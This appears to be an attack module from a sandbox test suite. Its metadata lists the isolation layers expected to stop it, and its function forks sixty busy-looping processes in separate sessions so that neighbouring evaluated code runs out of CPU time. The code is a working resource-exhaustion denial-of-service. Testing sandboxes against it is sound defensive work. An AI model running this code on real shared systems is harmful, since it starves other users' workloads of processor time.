"""Takes every core many times over, so that whoever is evaluated beside it runs out of time."""

ATTACK = {
    "family": "time",
    "stopped_by": ["seccomp", "rlimits", "cgroups"],
    "lift": ["user", "landlock", "seccomp", "privileges", "rlimits", "cgroups"],
    "expect": ["exception", "timeout"],
    "proof": "neighbour",
}

import os
import time


def attack(host):
    for _ in range(60):
        if os.fork() == 0:
            os.setsid()  # the scheduler shares out processors by session
            end = time.monotonic() + 6
            while time.monotonic() < end:
                pass
            os._exit(0)
    while True:
        pass
